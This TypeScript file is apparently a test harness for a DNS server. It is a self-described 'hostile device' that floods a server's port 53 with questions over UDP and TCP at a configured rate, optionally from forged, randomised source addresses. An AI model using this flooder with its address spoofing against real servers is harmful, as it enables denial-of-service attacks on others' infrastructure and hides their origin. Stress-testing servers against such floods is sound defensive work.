/**
 * A hostile device: sends questions at a rate from the addresses it is told to, its own or forged, until it is killed.
 * Forged ones need `net.ipv4.ip_nonlocal_bind` and `net.ipv6.ip_nonlocal_bind` in its place. argv: one JSON object, see `Flood`.
 * Prints `flooding` once it has begun.
 */
import { createSocket, type Socket as Udp } from 'node:dgram'
import { connect, type Socket as Tcp } from 'node:net'
import { framed, type Kind, question } from './flood-questions.ts'

export interface Flood {
  server: string
  /** Questions a second in all, over each transport. */
  rate: number
  kinds: readonly Kind[]
  transports: readonly ('udp' | 'tcp')[]
  /** Source addresses; none: as the system chooses. A `*` stands for a random group or octet. */
  from: readonly string[]
  /** Source port of every datagram; none: as the system chooses. */
  port?: number
  /** Over TCP, at a time. */
  connections?: number
}

const { server, rate, kinds, transports, from, port, connections = 16 }: Flood = JSON.parse(process.argv[2]!)
const TICK_MS = 10
/** Kept open at a time: an address each where addresses are random. */
const SOCKETS = 200
const isV6 = server.includes(':')
const sockets: Udp[] = []
let sent = 0
let said = false

function randomly(pattern: string): string {
  return pattern.replaceAll('*', () =>
    isV6 ? Math.floor(Math.random() * 65_535).toString(16) : String(2 + Math.floor(Math.random() * 250)),
  )
}
const source = () => (from.length === 0 ? undefined : randomly(from[sent % from.length]!))

function open(): Udp {
  const socket = createSocket(isV6 ? 'udp6' : 'udp4')
  socket.on('error', () => {})
  const address = source()
  socket.bind({ ...(address && { address }), port: port ?? 0 })
  return socket
}

function say(): void {
  if (!said) process.stdout.write('flooding\n')
  said = true
}

function sendUdp(count: number): void {
  const turning = from.some((each) => each.includes('*'))
  for (let i = 0; i < count; i++) {
    const fixed = port !== undefined
    if (sockets.length < (turning && !fixed ? SOCKETS : Math.max(1, from.length))) sockets.push(open())
    else if (turning && !fixed && i % 4 === 0) {
      sockets.shift()!.close()
      sockets.push(open())
    }
    const socket = sockets[sent % sockets.length]!
    socket.send(question(kinds[sent++ % kinds.length]!), 53, server, say)
  }
}

const open64 = new Set<Tcp>()
function dial(): void {
  const address = source()
  const socket = connect({ host: server, port: 53, ...(address && { localAddress: address }) })
  open64.add(socket)
  socket.on('error', () => {})
  socket.on('connect', say)
  socket.on('close', () => open64.delete(socket))
  // Reads everything, so that nothing but its own appetite limits it.
  socket.resume()
}

function sendTcp(count: number): void {
  while (open64.size < connections) dial()
  for (const socket of open64) {
    if (socket.connecting || socket.writableLength > 1 << 20) continue
    const each = Math.ceil(count / open64.size)
    socket.write(
      Buffer.concat(Array.from({ length: each }, () => framed(question(kinds[sent++ % kinds.length]!)))),
    )
  }
}

let owed = 0
let at = performance.now()
setInterval(() => {
  const now = performance.now()
  // What a busy machine could not send is not sent later: a burst would be another flood than the one asked for.
  owed = Math.min(rate / 4, owed + ((now - at) * rate) / 1000)
  at = now
  const count = Math.floor(owed)
  owed -= count
  if (transports.includes('udp')) sendUdp(count)
  if (transports.includes('tcp')) sendTcp(count)
}, TICK_MS)
